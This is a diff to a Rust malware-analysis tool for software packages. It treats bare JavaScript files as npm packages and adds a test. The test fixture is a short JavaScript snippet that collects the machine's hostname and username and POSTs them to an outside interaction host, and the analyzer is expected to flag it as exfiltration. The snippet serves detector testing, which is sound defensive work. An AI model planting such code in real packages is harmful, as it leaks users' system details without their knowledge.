@@ -1208,7 +1208,11 @@ fn guess_ecosystem(files: &[PackageFile]) -> Ecosystem {
     for f in files {
         let depth = f.path.matches('/').count();
         let b = basename(&f.path);
-        if depth <= 1 && b == "package.json" {
+        // A manifest, or JavaScript where no Python is (a package whose manifest was
+        // lost, a bare script).
+        if (depth <= 1 && b == "package.json")
+            || [".js", ".mjs", ".cjs"].iter().any(|e| b.ends_with(e))
+        {
             npm = true;
         }
         if b.ends_with(".py") || b == "PKG-INFO" || b == "METADATA" || b == "setup.cfg" {
@@ -1412,6 +1416,21 @@ mod tests {
         let f = r.findings.into_iter().find(|f| f.rule == rule)?;
         let weight = f.message.rsplit("[+").next().unwrap_or("").to_string();
         Some((f.stage, weight))
+    }
+
+    #[test]
+    fn javascript_without_a_manifest_is_analysed_as_npm() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let recon = "const os = require('os'), https = require('https');\nconst d = JSON.stringify({h: os.hostname(), u: os.userInfo().username});\nconst req = https.request({hostname: 'x.oast.fun', method: 'POST'});\nreq.write(d);\nreq.end();\n";
+        let r = a.analyze(&[pf("package/index.js", recon)], &[]);
+        assert_eq!(r.ecosystem, Some(Ecosystem::Npm));
+        assert!(r.findings.iter().any(|f| f.rule == "EXFIL-SEND-COLLECTED"));
+        // Python beside it keeps the package on PyPI.
+        let r = a.analyze(
+            &[pf("p-1.0/static/app.js", recon), pf("p-1.0/setup.py", "")],
+            &[],
+        );
+        assert_eq!(r.ecosystem, Some(Ecosystem::PyPI));
     }
 
     #[test]
